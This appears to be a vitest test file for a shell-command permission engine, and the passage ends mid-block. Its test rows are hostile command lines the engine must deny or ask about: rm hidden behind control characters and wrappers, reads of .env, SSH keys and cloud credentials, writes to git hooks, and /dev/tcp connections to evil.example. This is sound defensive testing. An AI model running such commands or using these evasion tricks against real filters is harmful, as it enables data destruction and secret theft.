// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the test lines are shell, whose own syntax is ${…}
// Lines an attacker writes so that the rules judge something else than what bash runs. Each block is
// one class: the first rows are the reported examples, the rest the class around them.
import { beforeAll, describe, expect, it } from 'vitest';
import type { PermissionLayers } from './evaluate-permission.ts';
import type { PermissionEngine, ToolCallEvaluation } from './permission-engine.ts';
import type { PermissionRule } from './permission-rule.ts';
import {
  cases,
  createFakeClock,
  createWarmEngine,
  defaultAndUserRules,
  evaluateLine,
  expectDecision,
  explainEvaluation,
  parseRules,
} from './permission-test-kit.ts';
import { loadShellParser, type ShellParser } from './shell/shell-parser.ts';

let engine: PermissionEngine;
const rules: PermissionRule[] = defaultAndUserRules();

beforeAll(async () => {
  engine = await createWarmEngine();
});

function shell(
  command: string,
  options: {
    layers?: PermissionLayers;
    canonicalPaths?: (given: string) => readonly string[] | undefined;
  } = {},
): ToolCallEvaluation {
  return evaluateLine(engine, command, {
    layers: options.layers ?? { file: rules },
    home: '/home/me',
    canonicalPaths: options.canonicalPaths,
  });
}

/** The default and user rules plus `extra` (a JSON rules object). */
function withRules(extra: object): PermissionLayers {
  return { file: [...rules, ...parseRules(JSON.stringify(extra))] };
}

describe('bytes that bash and the parser read differently', () => {
  it.each(
    cases([
      { command: 'echo hi\v# ; rm -rf x', decision: 'deny', why: 'bash reads \\v as a word character', by: 'rm -rf x' },
      { command: 'echo hi\f# ; rm -rf x', decision: 'deny', why: 'and \\f', by: 'rm -rf x' },
      { command: 'echo hi\r# ; rm -rf x', decision: 'deny', why: 'and \\r', by: 'rm -rf x' },
      { command: 'echo hi\u00a0# ; rm -rf x', decision: 'deny', why: 'a no-break space is no blank to bash' },
      { command: 'echo hi\u2028# ; rm -rf x', decision: 'deny', why: 'nor a line separator' },
      { command: 'echo hi\u3000# ; rm -rf x', decision: 'deny', why: 'nor an ideographic space' },
      { command: 'echo hi\u0085# ; rm -rf x', decision: 'deny', why: 'nor a next-line character' },
      { command: 'echo hi\v#', decision: 'ask', why: 'a \\v alone still asks' },
      { command: 'echo hi\f', decision: 'ask', why: 'a \\f alone still asks' },
      { command: 'ls\u000bfoo', decision: 'ask', why: 'a \\v inside a word' },
      { command: 'echo hi\u0001 there', decision: 'ask', why: 'another C0 control character' },
      { command: 'echo \u001b[31mred', decision: 'ask', why: 'an escape character' },
      { command: 'echo a\u007f b', decision: 'ask', why: 'DEL' },
      { command: 'echo a\u0001; rm x', decision: 'deny', why: 'a control character does not hide rm', by: 'rm x' },
      { command: 'echo \ufeffhi', decision: 'ask', why: 'a byte-order mark inside the line' },
      { command: 'echo "a\u00a0b"', decision: 'ask', why: 'such characters ask even inside quotes' },
      { command: 'echo \\ #; rm -rf x', decision: 'deny', why: 'a word that starts with an escaped blank' },
      { command: 'echo a \\\t#; rm -rf x', decision: 'deny', why: 'an escaped tab starting a word' },
      { command: 'echo \\ #', decision: 'ask', why: 'an escaped blank starting a word asks' },
      {
        command: 'echo a >#b; rm x',
        decision: 'deny',
        why: 'a line the parser cannot read still denies the commands it names (a comment eats the target)',
      },
      { command: 'echo hi\ue100 there', decision: 'ask', why: 'a private-use character' },
      { command: 'echo hi there # a comment; rm x', decision: 'allow', why: 'a real comment still runs nothing' },
      { command: 'echo a;# rm x', decision: 'allow', why: 'a comment right after ; is a comment to bash too' },
      { command: 'echo "tab\there" \'and\ttabs\'', decision: 'allow', why: 'tabs are blanks to both' },
      { command: 'echo "héllo — wörld"', decision: 'allow', why: 'ordinary non-ASCII text' },
    ]),
  )('%s', (_title, row) => {
    const evaluation = shell(row.command);
    expectDecision(evaluation, row);
    expect(evaluation.problems.length, explainEvaluation(evaluation)).toBeGreaterThan(
      row.decision === 'allow' ? -1 : 0,
    );
  });
});

describe('environment assignments keep an allow only for harmless names', () => {
  it.each(
    cases([
      { command: "GIT_EXTERNAL_DIFF='touch X' git log -p --ext-diff", decision: 'ask', why: 'git runs that program' },
      { command: 'HOME=/tmp/evil git log', decision: 'ask', why: 'git reads its config from HOME' },
      { command: 'XDG_CONFIG_HOME=/tmp/evil git log', decision: 'ask', why: 'so from XDG_CONFIG_HOME' },
      { command: 'GIT_DIR=/tmp/evil git log', decision: 'ask', why: 'another repository and its config' },
      { command: 'GIT_WORK_TREE=/ git status', decision: 'ask', why: 'another work tree' },
      { command: 'GIT_PROXY_COMMAND=./x git log', decision: 'ask', why: 'a proxy program' },
      { command: 'GIT_TRACE2_EVENT=/tmp/out git status', decision: 'ask', why: 'a file git writes' },
      { command: 'GIT_TRACE=/home/me/.bashrc git status', decision: 'ask', why: 'GIT_TRACE writes a file' },
      { command: 'GCONV_PATH=. git log', decision: 'ask', why: 'a library loaded by iconv' },
      { command: "LESSOPEN='|rm x %s' git log", decision: 'ask', why: 'a preprocessor less runs' },
      { command: 'FOO=1 ls', decision: 'ask', why: 'a name not on the harmless list' },
      { command: 'foo=1 ls', decision: 'ask', why: 'lower case before a command reaches its environment too' },
      { command: 'http_proxy=http://evil:8080 git status', decision: 'ask', why: 'a proxy for git' },
      { command: 'LANG=C git log', decision: 'allow', why: 'LANG is harmless' },
      {
        command: 'LC_ALL=C.UTF-8 TZ=UTC NO_COLOR=1 CI=true git log --oneline',
        decision: 'allow',
        why: 'several harmless names',
      },
      { command: 'LC_ALL=/tmp/evil git log', decision: 'ask', why: 'a locale given as a path' },
      { command: 'FORCE_COLOR=1 TERM=dumb COLUMNS=80 git log', decision: 'allow', why: 'display settings' },
      { command: 'LANG=$(rm x) git log', decision: 'deny', why: 'a value that runs rm', by: 'rm x' },
      { command: 'export GIT_DIR=/tmp/evil; git log', decision: 'ask', why: 'an export before the command' },
      { command: 'GIT_DIR=/tmp/evil; git log', decision: 'ask', why: 'a bare assignment of an exported name' },
      { command: 'x=1; echo $x', decision: 'allow', why: 'a lower-case shell variable stays in the shell' },
      { command: 'for PATH in /tmp/evil; do ls; done', decision: 'ask', why: 'a loop variable named PATH' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it.each(
    cases([
      { command: 'env GIT_DIR=/tmp/evil git log', decision: 'ask', why: 'env NAME=… cmd' },
      { command: 'env HOME=/tmp git status', decision: 'ask', why: 'env HOME=' },
      { command: 'env LANG=C git log', decision: 'allow', why: 'env with a harmless name' },
      { command: 'export GIT_PAGER=x; git log', decision: 'ask', why: 'export even when export is allowed' },
      { command: 'export NO_COLOR=1; git log', decision: 'allow', why: 'export of a harmless name' },
      { command: 'read -r GIT_DIR <<< /tmp/evil; git log', decision: 'ask', why: 'read assigns a name' },
      { command: 'read -r line <<< hello; echo $line', decision: 'allow', why: 'read into a shell variable' },
      { command: 'printf -v HOME %s /tmp; git status', decision: 'ask', why: 'printf -v assigns a name' },
      { command: 'set -a; x=1; git status', decision: 'ask', why: 'set -a exports every assignment' },
      { command: 'set -o allexport; git status', decision: 'ask', why: 'the long form of set -a' },
      { command: 'set -e; git status', decision: 'allow', why: 'other shell options' },
      { command: 'declare -x HOME=/tmp; git status', decision: 'ask', why: 'declare -x' },
      { command: 'declare -i n=3; echo $n', decision: 'allow', why: 'a shell variable that is not exported' },
    ]),
  )('%s (env, export, read, printf, set and declare allowed by rule)', (_title, row) => {
    const allowed = ['env *', 'export *', 'read *', 'printf *', 'set *', 'declare *'];
    expectDecision(
      shell(row.command, {
        layers: withRules({ shell_exec: Object.fromEntries(allowed.map((rule) => [rule, 'allow'])) }),
      }),
      row,
    );
  });
});

describe('denies that must not degrade to asks', () => {
  const findAllowed = withRules({ shell_exec: { 'find *': 'allow' } });

  it.each(
    cases([
      { command: "eval -- 'rm -rf x'", decision: 'deny', why: 'eval --', by: 'rm -rf x' },
      { command: 'eval -- rm -rf x', decision: 'deny', why: 'eval -- with words', by: 'rm -rf x' },
      { command: 'coproc rm -rf x', decision: 'deny', why: 'coproc', by: 'rm -rf x' },
      { command: 'coproc worker { rm -rf x; }', decision: 'deny', why: 'a named coproc with a group' },
      { command: 'coproc { rm -rf x; }', decision: 'deny', why: 'an unnamed coproc with a group' },
      { command: 'coproc (rm -rf x)', decision: 'deny', why: 'a coproc subshell' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it.each(
    cases([
      { command: 'find . -delete', decision: 'deny', why: 'find -delete removes files like rm' },
      { command: "find build -name '*.o' -delete", decision: 'deny', why: 'with a test before it' },
      { command: 'find . -type f -print', decision: 'allow', why: 'find without -delete is allowed' },
    ]),
  )('%s (find allowed, rm denied)', (_title, row) => {
    expectDecision(shell(row.command, { layers: findAllowed }), row);
  });

  it('denies a denied command after more than 256 commands', () => {
    const line = `${Array.from({ length: 300 }, () => 'ls').join(' && ')} && rm -rf x`;
    const evaluation = shell(line);
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
  });

  it('denies a denied command found before parsing ran out of time', async () => {
    // A parser whose every parse of a payload (a bash -c string) runs out of time.
    const real = await loadShellParser();
    const parser: ShellParser = {
      ...real,
      parse: (source, options) => (source.startsWith('ls;') ? undefined : real.parse(source, options)),
    };
    const impatient = await createWarmEngine({ parser });
    for (const line of ["rm -rf x; bash -c 'ls; pwd'", "bash -c 'ls; pwd'; rm -rf x"]) {
      const evaluation = evaluateLine(impatient, line, { layers: { file: rules } });
      expect(evaluation.decision.type, `${line}\n${explainEvaluation(evaluation)}`).toBe('deny');
      expect(evaluation.problems.join('\n')).toMatch(/parsing took longer/);
    }
  });

  it('denies a denied command after the analysis time ran out', async () => {
    // A clock that moves on every reading: the payload is met after the deadline.
    const clock = createFakeClock({ tick: 1 });
    const impatient = await createWarmEngine({ limits: { analysisTimeoutMs: 0, now: clock.now } });
    const evaluation = evaluateLine(impatient, "bash -c 'ls'; ls; rm -rf x", { layers: { file: rules } });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
    expect(evaluation.problems).toContain('the analysis took longer than 0 ms');
  });

  it("reads an unknown program's arguments by the engine's limits and clock too", async () => {
    const clock = createFakeClock({ tick: 1 });
    const impatient = await createWarmEngine({ limits: { analysisTimeoutMs: 0, now: clock.now } });
    const evaluation = evaluateLine(impatient, `mywrapper "bash -c 'rm -rf x'"`, { layers: { file: rules } });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
    // The probe's payload is met after the deadline: only scanned, and its rm still denies.
    expect(evaluation.decidedBy?.label).toBe('rm -rf x (via mywrapper (an unknown program) → bash -c → rough scan)');
  });
});

describe('wrappers that run another command', () => {
  it.each(
    cases([
      { command: 'parallel rm ::: a b', decision: 'deny', why: 'parallel CMD ::: args' },
      { command: "parallel 'rm {}' ::: a b", decision: 'deny', why: 'parallel with a quoted command' },
      { command: 'parallel -j 4 rm -rf ::: a', decision: 'deny', why: 'parallel -j N' },
      { command: "script -c 'rm -rf x'", decision: 'deny', why: 'script -c', by: 'rm -rf x' },
      { command: "script -qc 'rm -rf x' /dev/null", decision: 'deny', why: 'script -qc', by: 'rm -rf x' },
      { command: "script --command='rm -rf x'", decision: 'deny', why: 'script --command=', by: 'rm -rf x' },
      { command: 'taskset -c 0 rm -rf x', decision: 'deny', why: 'taskset -c LIST', by: 'rm -rf x' },
      { command: 'taskset 0x1 rm -rf x', decision: 'deny', why: 'taskset MASK', by: 'rm -rf x' },
      { command: 'chrt 10 rm x', decision: 'deny', why: 'chrt PRIORITY', by: 'rm x' },
      { command: 'chrt -f 10 rm x', decision: 'deny', why: 'chrt -f PRIORITY', by: 'rm x' },
      { command: 'strace rm x', decision: 'deny', why: 'strace', by: 'rm x' },
      {
        command: 'strace -f -o /dev/null -e trace=file rm x',
        decision: 'deny',
        why: 'strace with options',
        by: 'rm x',
      },
      { command: 'ltrace -o /dev/null rm x', decision: 'deny', why: 'ltrace', by: 'rm x' },
      { command: 'unshare -r rm x', decision: 'deny', why: 'unshare', by: 'rm x' },
      { command: 'unshare --mount --pid --fork rm x', decision: 'deny', why: 'unshare with long options', by: 'rm x' },
      { command: 'systemd-run --user rm x', decision: 'deny', why: 'systemd-run', by: 'rm x' },
      {
        command: 'systemd-run --user -p MemoryMax=1G --wait rm x',
        decision: 'deny',
        why: 'systemd-run -p',
        by: 'rm x',
      },
      { command: 'gdb --args rm x', decision: 'deny', why: 'gdb --args', by: 'rm x' },
      { command: "gdb -batch -ex 'shell rm x'", decision: 'deny', why: 'a gdb shell command', by: 'rm x' },
      { command: 'valgrind rm x', decision: 'deny', why: 'valgrind', by: 'rm x' },
      { command: 'valgrind --tool=memcheck -q rm x', decision: 'deny', why: 'valgrind with options', by: 'rm x' },
      { command: 'fakeroot rm x', decision: 'deny', why: 'fakeroot', by: 'rm x' },
      { command: 'fakeroot -- rm x', decision: 'deny', why: 'fakeroot --', by: 'rm x' },
      { command: 'firejail rm x', decision: 'deny', why: 'firejail', by: 'rm x' },
      { command: 'firejail --noprofile --net=none rm x', decision: 'deny', why: 'firejail options', by: 'rm x' },
      { command: "sg wheel -c 'rm x'", decision: 'deny', why: 'sg GROUP -c', by: 'rm x' },
      { command: "sg wheel 'rm x'", decision: 'deny', why: 'sg GROUP COMMAND', by: 'rm x' },
      { command: 'pkexec rm x', decision: 'deny', why: 'pkexec', by: 'rm x' },
      { command: 'pkexec --user bob rm x', decision: 'deny', why: 'pkexec --user', by: 'rm x' },
      { command: 'nsenter -t 1 -m -u rm x', decision: 'deny', why: 'nsenter', by: 'rm x' },
      { command: 'prlimit --nofile=10 rm x', decision: 'deny', why: 'prlimit', by: 'rm x' },
      { command: 'numactl -C 0 rm x', decision: 'deny', why: 'numactl', by: 'rm x' },
      { command: 'setpriv --reuid=1000 rm x', decision: 'deny', why: 'setpriv', by: 'rm x' },
      { command: 'xvfb-run -a rm x', decision: 'deny', why: 'xvfb-run', by: 'rm x' },
      { command: 'unbuffer rm x', decision: 'deny', why: 'unbuffer', by: 'rm x' },
      { command: 'dbus-run-session -- rm x', decision: 'deny', why: 'dbus-run-session', by: 'rm x' },
      { command: 'setarch x86_64 -R rm x', decision: 'deny', why: 'setarch', by: 'rm x' },
      { command: 'linux32 rm x', decision: 'deny', why: 'linux32', by: 'rm x' },
      { command: "entr -s 'rm x'", decision: 'deny', why: 'entr -s', by: 'rm x' },
      { command: 'catchsegv rm x', decision: 'deny', why: 'catchsegv', by: 'rm x' },
      { command: 'proxychains4 -q rm x', decision: 'deny', why: 'proxychains', by: 'rm x' },
      { command: 'torsocks rm x', decision: 'deny', why: 'torsocks', by: 'rm x' },
      { command: 'chpst -u bob rm x', decision: 'deny', why: 'chpst', by: 'rm x' },
      { command: 'ionice -c 3 nice taskset 1 rm x', decision: 'deny', why: 'wrappers inside wrappers', by: 'rm x' },
      { command: 'git rebase -x "rm -rf x" main', decision: 'deny', why: 'git rebase -x runs a command' },
      { command: 'git bisect run rm -rf x', decision: 'deny', why: 'git bisect run', by: 'rm -rf x' },
      { command: "git submodule foreach 'rm -rf x'", decision: 'deny', why: 'git submodule foreach' },
      { command: "tar -xf a.tar --to-command='rm -rf x'", decision: 'deny', why: 'tar --to-command' },
      { command: 'rsync -e "rm -rf x" a b:', decision: 'deny', why: 'rsync -e' },
      {
        command: 'taskset -c 0 ls',
        decision: 'allow',
        why: 'a known wrapper that changes nothing is judged by what it runs',
        by: 'ls',
      },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it.each(
    cases([
      { command: 'mywrapper rm -rf x', decision: 'deny', why: 'an unknown wrapper around rm' },
      { command: 'mywrapper --flag -v rm -rf x', decision: 'deny', why: 'after unknown options' },
      { command: 'mywrapper -c "rm -rf x"', decision: 'deny', why: 'a command string to an unknown program' },
      { command: '$RUNNER rm -rf x', decision: 'deny', why: 'a wrapper only known at run time' },
      { command: '"$(which nice)" rm -rf x', decision: 'deny', why: 'a substituted wrapper' },
      { command: 'mywrapper ls', decision: 'ask', why: 'an unknown program asks as before' },
      { command: 'echo rm -rf x', decision: 'allow', why: 'an allowed echo only prints the words' },
      { command: "grep -r 'rm -rf' src", decision: 'allow', why: 'an allowed grep only searches for them' },
      { command: "git log --grep='rm -rf'", decision: 'allow', why: 'an allowed git log too' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });
});

describe('arguments that turn an allowed command into a write or a read', () => {
  it.each(
    cases([
      { command: 'git log --output=notes.txt', decision: 'allow', why: 'a write the write_file rules allow' },
      { command: 'git log --output notes.txt', decision: 'allow', why: 'the separate form' },
      { command: 'git log --output package.json', decision: 'ask', why: 'a write the write_file rules ask about' },
      { command: 'git diff -p --output=/home/me/.bashrc', decision: 'ask', why: 'a write outside the workdir' },
      { command: 'git log -p --output=.env', decision: 'deny', why: 'a write the write_file rules deny' },
      { command: 'git diff --output=.git/hooks/pre-commit', decision: 'deny', why: 'a git hook' },
      { command: 'git log --output=/dev/null', decision: 'allow', why: 'writing to /dev/null changes no file' },
      { command: 'git diff --ext-diff', decision: 'ask', why: 'an external diff program from git config' },
      { command: 'git log -p --ext-diff', decision: 'ask', why: 'the same for git log' },
      { command: "git -c core.pager='rm x' log", decision: 'deny', why: 'a config value that runs rm' },
      { command: 'git -c core.fsmonitor=./x status', decision: 'ask', why: 'a config value runs a program' },
      { command: 'git log --no-ext-diff -p', decision: 'allow', why: 'turning it off is harmless' },
      { command: 'echo data | grep -f patterns.txt', decision: 'allow', why: 'an allowed read' },
      { command: 'echo x | grep -f .env', decision: 'deny', why: 'grep -f reads .env' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it.each(
    cases([
      { command: 'cat .env', decision: 'deny', why: 'cat reads what read_file may not' },
      { command: 'cat ./.env', decision: 'deny', why: 'a ./ spelling' },
      { command: 'cat src/../.env', decision: 'deny', why: 'a .. spelling' },
      { command: 'cat README.md .env.local', decision: 'deny', why: 'the second file' },
      { command: 'cat < .env', decision: 'deny', why: 'an input redirection' },
      { command: 'cat 0< .env', decision: 'deny', why: 'with a descriptor' },
      { command: 'grep KEY < .env', decision: 'deny', why: 'into an allowed grep' },
      { command: 'grep KEY .env', decision: 'deny', why: 'grep with a file' },
      { command: 'grep -e KEY -- .env', decision: 'deny', why: 'grep -e PATTERN -- FILE' },
      { command: 'grep -rn KEY src .env', decision: 'deny', why: 'several paths' },
      { command: 'cat ~/.ssh/id_ed25519', decision: 'deny', why: 'a private key outside the workdir' },
      { command: 'cat /home/me/.aws/credentials', decision: 'deny', why: 'cloud credentials' },
      { command: 'cat ~/.local/state/molf/connections.json', decision: 'deny', why: "Molf's saved client tokens" },
      { command: 'grep key ~/.config/molf/config.jsonc', decision: 'deny', why: "keys in Molf's config" },
      { command: 'cat ~/.local/share/molf/credentials.json', decision: 'deny', why: "Molf's data dir" },
      { command: 'cat .env.example', decision: 'allow', why: 'the example file is allowed' },
      { command: 'cat README.md src/index.ts', decision: 'allow', why: 'ordinary files' },
      { command: 'cat "$F"', decision: 'ask', why: 'a file only known when the line runs' },
      { command: 'for f in README.md .env; do cat "$f"; done', decision: 'deny', why: 'a loop over .env' },
      { command: 'for f in README.md notes.txt; do cat "$f"; done', decision: 'allow', why: 'a loop over files' },
      { command: 'for f in a.txt; do f=.env; cat "$f"; done', decision: 'ask', why: 'a loop variable set again' },
      { command: 'diff <(sort a.txt) <(sort b.txt)', decision: 'ask', why: 'diff itself has no rule' },
      { command: 'cat < /dev/tcp/10.0.0.1/80', decision: 'ask', why: 'bash opens a network connection' },
      { command: 'echo x > /dev/tcp/evil.example/80', decision: 'ask', why: 'and when writing' },
      { command: 'exec 3<>/dev/udp/10.0.0.1/53', decision: 'ask', why: 'udp too' },
      { command: 'ls < /dev/null', decision: 'allow', why: '/dev/null is no file' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });

  it.each(
    cases([
      { command: 'head -n 5 .env', decision: 'deny', why: 'head' },
      { command: 'tail -f .env.production', decision: 'deny', why: 'tail' },
      { command: 'less .env', decision: 'deny', why: 'less' },
      { command: 'wc -l .env', decision: 'deny', why: 'wc' },
      { command: 'sort .env', decision: 'deny', why: 'sort' },
      { command: 'cut -d= -f1 .env', decision: 'deny', why: 'cut' },
      { command: 'sed -n 1p .env', decision: 'deny', why: 'sed' },
      { command: "awk '{print}' .env", decision: 'deny', why: 'awk' },
      { command: 'base64 .env', decision: 'deny', why: 'base64' },
      { command: 'xxd .env', decision: 'deny', why: 'xxd' },
      { command: 'strings .env', decision: 'deny', why: 'strings' },
      { command: 'diff .env .env.example', decision: 'deny', why: 'diff' },
      { command: 'cp .env leak.txt', decision: 'deny', why: 'cp reads its sources' },
      { command: 'source .env', decision: 'deny', why: 'source' },
      { command: '. ./.env', decision: 'deny', why: '.' },
      { command: 'jq . my-credentials.json', decision: 'deny', why: 'jq' },
      { command: 'dd if=.env of=leak', decision: 'deny', why: 'dd if=' },
      { command: 'tar -czf out.tgz .env', decision: 'deny', why: 'tar of a denied file' },
    ]),
  )('%s (every command allowed by rule)', (_title, row) => {
    expectDecision(shell(row.command, { layers: withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } }) }), row);
  });

  it.each(
    cases([
      { command: 'echo x | tee .env', decision: 'deny', why: 'tee writes .env' },
      { command: 'cp notes.txt .git/config', decision: 'deny', why: 'cp writes a git config' },
      { command: 'mv x .git/hooks/pre-push', decision: 'deny', why: 'mv writes a git hook' },
      { command: 'sed -i s/a/b/ .env', decision: 'deny', why: 'sed -i rewrites .env' },
      { command: 'sort -o .env list', decision: 'deny', why: 'sort -o' },
      { command: 'dd if=x of=.git/config', decision: 'deny', why: 'dd of=' },
      { command: 'touch .git/hooks/post-checkout', decision: 'deny', why: 'touch' },
      { command: 'chmod +x .git/hooks/pre-commit', decision: 'deny', why: 'chmod' },
      { command: 'ln -s /tmp/x .git/hooks/pre-commit', decision: 'deny', why: 'ln' },
      { command: 'cp a b', decision: 'allow', why: 'an ordinary copy' },
    ]),
  )('%s (every command allowed, writes too)', (_title, row) => {
    const layers = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny', '> *': 'allow' } });
    expectDecision(shell(row.command, { layers }), row);
  });

  it('judges a file argument where it really leads', () => {
    const evaluation = shell('cat notes.txt', {
      canonicalPaths: (given) => (given === 'notes.txt' ? ['.env', '/work/project/.env'] : undefined),
    });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe('deny');
  });

  it('judges a glob argument by the files it names', () => {
    const expanded = (given: string) => (given === '.e*' ? ['.env', '/work/project/.env'] : undefined);
    expect(shell('cat .e*', { canonicalPaths: expanded }).decision.type).toBe('deny');
    expect(shell('cat .e*').decision.type).toBe('ask');
  });

  it('asks, never allows, sed and awk programs that run commands or write files', () => {
    const layers = withRules({ shell_exec: { 'sed *': 'allow', 'awk *': 'allow' } });
    expect(shell("sed -n 's/a/b/p' notes.txt", { layers }).decision.type).toBe('allow');
    expect(shell("sed 's/x/rm -rf y/e' notes.txt", { layers }).decision.type).toBe('ask');
    expect(shell("sed '1e rm -rf y' notes.txt", { layers }).decision.type).toBe('ask');
    expect(shell("sed 'w .git/config' notes.txt", { layers }).decision.type).toBe('ask');
    expect(shell("awk '{ print $1 }' notes.txt", { layers }).decision.type).toBe('allow');
    expect(shell('awk \'BEGIN { system("rm -rf y") }\'', { layers }).decision.type).toBe('ask');
    expect(shell('awk \'{ print | "sh" }\' notes.txt', { layers }).decision.type).toBe('ask');
  });
});

describe('options read as their command reads them', () => {
  const allowed = withRules({
    shell_exec: {
      'git push *': 'allow',
      'git add *': 'allow',
      'openssl *': 'allow',
      'zip *': 'allow',
      'make *': 'allow',
    },
  });

  it.each(
    cases([
      { command: 'git push -u origin main', decision: 'allow', why: '-u of git push sets the upstream' },
      { command: 'git add -u .', decision: 'allow', why: '-u of git add takes no value' },
      { command: "git fetch --upload-pack='rm -rf x' origin", decision: 'deny', why: 'fetch --upload-pack runs it' },
      { command: "git clone -u 'rm -rf x' url dir", decision: 'deny', why: 'clone -u runs it' },
      { command: 'openssl enc -in .env -out x.enc', decision: 'deny', why: 'a one-dash long option naming a file' },
      { command: "zip -TT 'rm -rf x' out.zip a", decision: 'deny', why: 'zip -TT runs a command' },
      { command: 'make test', decision: 'allow', why: 'make' },
      { command: "make CC='touch x' test", decision: 'ask', why: 'a make variable is an assignment for its recipes' },
      { command: 'make LANG=C test', decision: 'allow', why: 'a harmless one' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command, { layers: allowed }), row);
  });
});

describe('what people are shown', () => {
  it.each([
    ['echo hi\u001b[2J\u001b[Hlooks fine', "echo $'hi\\x1b[2J\\x1b[Hlooks' fine"],
    ['echo hi\v# ; rm -rf x', "echo $'hi\\v#'"],
    ['echo a\u00a0b', "echo $'a\\u00a0b'"],
    ['echo "it\'s"', "echo 'it'\\''s'"],
  ])('shows control and invisible characters of %j as escapes, never raw', (command, shown) => {
    const evaluation = shell(command);
    expect(evaluation.verdicts[0]?.subject.label).toBe(shown);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters must not be shown
    expect(evaluation.verdicts.every(({ subject }) => !/[\u0000-\u001f\u007f\u00a0]/.test(subject.label))).toBe(true);
  });
});

describe('file rules restrict a shell line, they never widen or replace its own rules', () => {
  const shellOnly = { file: parseRules('{ "*": "ask", "shell_exec": { "*": "allow", "rm *": "deny" } }') };

  it('adds nothing when the file names no read_file or write_file rule (the "*" tool does not count)', () => {
    for (const command of ['cat notes.txt', 'touch a.flag', 'echo $$ > pid.txt', 'cat .env']) {
      const evaluation = shell(command, { layers: shellOnly });
      expect(evaluation.decision.type, `${command}\n${explainEvaluation(evaluation)}`).toBe('allow');
    }
  });

  it('applies a read_file or write_file rule the file does name', () => {
    const layers = {
      file: parseRules(
        '{ "*": "ask", "shell_exec": "allow", "read_file": { "*.env": "deny" }, "write_file": { "package.json": "ask" } }',
      ),
    };
    expect(shell('cat .env', { layers }).decision.type).toBe('deny');
    expect(shell('cat notes.txt', { layers }).decision.type).toBe('allow');
    expect(shell('echo {} > package.json', { layers }).decision.type).toBe('ask');
  });
});

describe('what a line names in another directory, another spelling or another program', () => {
  const everything = withRules({ shell_exec: { '*': 'allow', 'rm *': 'deny' } });

  it.each(
    cases([
      { command: 'cd sub && cat ../.env', decision: 'deny', why: 'a relative path after cd' },
      { command: 'cd /home/me && cat .ssh/id_rsa', decision: 'deny', why: 'an absolute cd' },
      { command: 'pushd sub; cat ../.env', decision: 'deny', why: 'pushd moves too' },
      { command: 'git -C sub show HEAD:x > ../.env', decision: 'deny', why: 'a redirection is the shell’s, not git’s' },
      { command: 'tar -C / -xf a.tar etc/passwd', decision: 'ask', why: 'tar -x writes what the archive names' },
      { command: 'cd "$D" && cat x', decision: 'ask', why: 'a directory only known when the line runs' },
      { command: 'cat {.env,notes.txt}', decision: 'deny', why: 'a brace expansion names each file' },
      { command: 'cat .e{n,x}v', decision: 'deny', why: 'inside a word' },
    ]),
  )('%s (every command allowed, rm denied)', (_title, row) => {
    const evaluation = shell(row.command, { layers: everything });
    expect(evaluation.decision.type, explainEvaluation(evaluation)).toBe(row.decision);
    if (row.by !== undefined) expect(evaluation.decidedBy?.forms).toContain(row.by);
  });

  it.each(
    cases([
      { command: 'timeout 5 cat .env', decision: 'deny', why: 'a wrapper’s command reads a denied file' },
      { command: 'nice -n 5 ls', decision: 'allow', why: 'a wrapper that changes nothing is judged by what it runs' },
      { command: 'env LANG=C ls', decision: 'allow', why: 'env with a harmless variable' },
      { command: 'timeout 5 python3 x.py', decision: 'ask', why: 'the wrapped command’s ask counts' },
      { command: 'npx rm -rf x', decision: 'deny', why: 'what npx runs is still checked for deny' },
      { command: 'npm exec -- rm -rf x', decision: 'deny', why: 'npm exec' },
      { command: 'pnpm dlx rimraf x; uv run rm -rf y', decision: 'deny', why: 'uv run' },
      { command: 'bundle exec rm -rf x', decision: 'deny', why: 'bundle exec' },
      {
        command: "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm x' .",
        decision: 'deny',
        why: 'tar runs it',
      },
      { command: "git grep -O'rm -rf x' foo", decision: 'deny', why: 'git grep -O opens files with a command' },
      { command: "git filter-branch --tree-filter 'rm -rf x' HEAD", decision: 'deny', why: 'git filter-branch' },
      { command: 'git clone ext::sh x', decision: 'ask', why: 'an ext:: URL runs a command' },
      { command: "ssh -o 'ProxyCommand rm -rf x' host", decision: 'deny', why: 'an ssh option with a space' },
      { command: "mapfile -C 'rm -rf x' -c 1 lines < notes.txt", decision: 'deny', why: 'a mapfile callback' },
      { command: "bash <<'EOF'\nrm -rf x\nEOF", decision: 'deny', why: 'a heredoc a shell runs' },
      { command: "sh <<< 'rm -rf x'", decision: 'deny', why: 'a here-string a shell runs' },
      { command: 'cat x.sh | bash', decision: 'ask', why: 'a program read from a pipe' },
      { command: 'bash < script.sh', decision: 'ask', why: 'a program read from a file' },
      { command: 'echo "${x:-\'$(rm -rf y)\'}"', decision: 'deny', why: 'quotes are literal inside "${…}"' },
      { command: "alias ll='rm -rf x'", decision: 'deny', why: 'an alias body' },
      { command: 'shopt -s expand_aliases; ll', decision: 'ask', why: 'a shopt that changes how the line is read' },
      { command: 'hash -p /bin/rm ls; ls', decision: 'ask', why: 'hash -p makes ls run rm' },
    ]),
  )('%s', (_title, row) => {
    expectDecision(shell(row.command), row);
  });
});

describe('declarations read as bash reads them', () => {
  it.each(
    cases([
      { command: "export 'GIT_DIR=x'; git status", decision: 'ask', why: 'a quoted export is an assignment too' },
      { command: 'export "GIT_${X}=1"; git status', decision: 'ask', why: 'a name only known at run time' },
      { command: 'export LANG=C; git status', decision: 'ask', why: 'export itself has no rule' },
      { command: 'declare -n ref=other', decision: 'ask', why: 'a name reference' },
      { command: 'declare -i n=x+1', decision: 'ask', why: 'an integer variable evaluates its value' },
